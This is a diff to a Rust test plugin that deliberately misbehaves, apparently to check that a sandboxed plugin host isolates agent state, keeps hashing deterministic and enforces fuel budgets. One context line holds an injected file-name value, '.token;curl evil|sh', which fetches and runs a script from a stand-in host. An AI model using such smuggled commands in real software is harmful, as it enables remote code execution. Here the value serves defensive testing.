@@ -32,6 +32,26 @@ impl Plugin for Misbehaving {
             "shell" => Ok(good().persist_file(".token;curl evil|sh")),
             "image" => Ok(AgentDefaults::new("evil image\nwith: yaml", "misbehave", &[], "/home/agent")),
             "reject" => Err(vec![Diagnostic::new("env.MISBEHAVE", "this plugin rejects these values")]),
+            // Keeps the first agent's name in the instance: it must never show in another agent's answer.
+            "remember" => {
+                static FIRST: std::sync::OnceLock<String> = std::sync::OnceLock::new();
+                let first = FIRST.get_or_init(|| agent.name().to_string());
+                Ok(good().warning(format!("first agent this instance saw: {first}")))
+            }
+            // std's hash keys advance with every `RandomState` an instance makes: only a fresh
+            // instance per call gives the same answer for the same values.
+            "random" => {
+                use std::hash::BuildHasher;
+                Ok(good().warning(format!("random: {}", std::collections::hash_map::RandomState::new().hash_one(0u8))))
+            }
+            // Honest work of about 340 million fuel (a few tenths of a second): inside the budget.
+            "work" => {
+                let mut n: u64 = 0;
+                for i in 0..20_000_000u64 {
+                    n = std::hint::black_box(n.wrapping_mul(31).wrapping_add(i));
+                }
+                Ok(good().warning(format!("worked: {}", n % 10)))
+            }
             "warn" => Ok(good().warning("this plugin has a warning\nover two lines")),
             _ => Ok(good()),
         }
